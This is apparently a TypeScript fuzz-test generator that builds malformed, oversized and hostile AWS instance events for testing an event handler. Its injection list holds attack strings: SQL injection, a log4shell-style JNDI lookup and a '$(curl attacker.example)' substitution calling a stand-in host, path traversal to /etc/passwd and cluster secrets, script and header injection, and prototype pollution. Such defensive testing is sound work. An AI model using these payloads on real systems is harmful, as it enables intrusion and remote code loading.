import fc from 'fast-check';
import { sampleEvent, sampleKinds } from '../../src/events/samples.js';
import { mulberry32 } from '../bed/kube-fault-proxy.js';

/** `count` well-formed instance ids from a seeded generator: ids no EC2 (moto) knows. */
export function ghostInstanceIds(seed: number, count: number): string[] {
  const random = mulberry32(seed);
  return Array.from({ length: count }, () => {
    let hex = '';
    while (hex.length < 17) hex += Math.floor(random() * 16).toString(16);
    return `i-${hex}`;
  });
}

// A shared big string: oversized events without holding hundreds of megabytes.
const big = 'x'.repeat(300_000);

function injections(id: string): string[] {
  return [
    `${id}'; DROP TABLE nodes; --`,
    `${id}\n{"level":"ERROR","message":"forged log line"}`,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, verbatim.
    '${jndi:ldap://attacker.example/a}',
    '../../../../etc/passwd',
    `${id}/../../api/v1/namespaces/kube-system/secrets`,
    `${id} OR 1=1`,
    '<script>alert(1)</script>',
    `\u0456${id.slice(1)}`, // Cyrillic і
    `${id}\u0000`,
    `${id}\u200b`,
    id.toUpperCase(),
    ` ${id}`,
    `${id}\r\nX-Injected: 1`,
    `i-${'f'.repeat(10_000)}`,
    '$(curl attacker.example)',
    '`reboot`',
    '{{7*7}}',
    '%0d%0aSet-Cookie:x',
    '__proto__',
    '',
  ];
}

const paths = [
  'id',
  'source',
  'detail-type',
  'account',
  'time',
  'region',
  'version',
  'resources',
  'detail',
  'detail.instance-id',
  'detail.EC2InstanceId',
  'detail.instance-action',
  'detail.state',
  'detail.LifecycleHookName',
  'detail.AutoScalingGroupName',
  'detail.LifecycleActionToken',
  'detail.LifecycleTransition',
  'detail.affectedEntities',
  'detail.startTime',
  'detail.eventTypeCategory',
  'detail.service',
  'detail.instance-termination-time',
] as const;

type Mutation = { op: 'set'; path: string; value: unknown } | { op: 'delete'; path: string };

function mutate(event: Record<string, unknown>, mutation: Mutation): void {
  const keys = mutation.path.split('.');
  let target: Record<string, unknown> = event;
  for (const key of keys.slice(0, -1)) {
    const next = target[key];
    if (typeof next !== 'object' || next === null) return;
    target = next as Record<string, unknown>;
  }
  const last = keys.at(-1)!;
  if (mutation.op === 'delete') delete target[last];
  else target[last] = mutation.value;
}

/**
 * Every kind of event the handler may meet, in the proportions of a bad day: valid ones about unknown
 * instances, mutated, truncated, oversized, wrongly typed, injection-laden and prototype-polluting ones,
 * each labelled with its shape. `realIds` name real nodes: the caller leaves out what the parser accepts.
 */
export function hostileEvent(
  realIds: string[],
  ghostIds: string[],
): fc.Arbitrary<{ shape: string; event: unknown }> {
  const anyId = fc.oneof(fc.constantFrom(...realIds), fc.constantFrom(...ghostIds));
  const kind = fc.constantFrom(...sampleKinds);
  const hostileString = anyId.chain((id) => fc.constantFrom(...injections(id)));
  const value = fc.oneof(
    hostileString,
    fc.anything({ maxDepth: 2 }),
    fc.constantFrom(null, 0, -1, 1e308, true, [], {}, '', big),
  );
  const mutation: fc.Arbitrary<Mutation> = fc.oneof(
    fc.record({ op: fc.constant('set' as const), path: fc.constantFrom(...paths), value }),
    fc.record({ op: fc.constant('delete' as const), path: fc.constantFrom(...paths) }),
  );
  const base = fc
    .tuple(kind, anyId)
    .map(([k, id]) => sampleEvent(k, { instanceId: id }) as Record<string, unknown>);
  return fc.oneof(
    {
      weight: 15,
      arbitrary: fc
        .tuple(kind, fc.constantFrom(...ghostIds))
        .map(([k, id]) => ({ shape: 'valid', event: sampleEvent(k, { instanceId: id }) })),
    },
    {
      weight: 45,
      arbitrary: fc
        .tuple(base, fc.array(mutation, { minLength: 1, maxLength: 3 }))
        .map(([event, mutations]) => {
          for (const m of mutations) mutate(event, m);
          return { shape: 'mutated', event };
        }),
    },
    {
      weight: 10,
      arbitrary: fc.tuple(base, fc.double({ min: 0, max: 1, noNaN: true })).map(([event, cut]) => {
        const text = JSON.stringify(event);
        return { shape: 'truncated', event: text.slice(0, Math.floor(text.length * cut)) };
      }),
    },
    {
      weight: 5,
      arbitrary: fc
        .tuple(base, fc.constantFrom('padding', 'resources', 'nested', 'id'))
        .map(([event, how]) => {
          if (how === 'padding') (event.detail as Record<string, unknown>).padding = big;
          if (how === 'resources') event.resources = Array.from({ length: 50_000 }, (_, i) => `arn:${i}`);
          if (how === 'nested') {
            let deep: unknown = realIds[0];
            for (let i = 0; i < 2_000; i++) deep = { deep };
            (event.detail as Record<string, unknown>).nested = deep;
          }
          if (how === 'id') event.id = big;
          return { shape: 'oversized', event };
        }),
    },
    {
      weight: 15,
      arbitrary: fc
        .oneof(fc.anything({ maxDepth: 3 }), fc.jsonValue())
        .map((event) => ({ shape: 'wrong-type', event })),
    },
    {
      weight: 10,
      arbitrary: fc.tuple(kind, anyId, hostileString).map(([k, id, text]) => {
        const event = sampleEvent(k, { instanceId: id }) as Record<string, unknown>;
        const detail = event.detail as Record<string, unknown>;
        for (const key of ['instance-id', 'EC2InstanceId', 'LifecycleHookName', 'AutoScalingGroupName']) {
          if (key in detail) detail[key] = text;
        }
        if (Array.isArray(detail.affectedEntities)) detail.affectedEntities = [{ entityValue: text }];
        return { shape: 'injection', event };
      }),
    },
    {
      weight: 2,
      arbitrary: anyId.map((id) => ({
        shape: 'prototype',
        event: JSON.parse(
          JSON.stringify(sampleEvent('spot-interruption', { instanceId: id })).replace(
            '"detail":{',
            `"__proto__":{"polluted":true},"detail":{"__proto__":{"instance-id":"${id}"},"constructor":{"prototype":{"polluted":true}},`,
          ),
        ) as unknown,
      })),
    },
  );
}
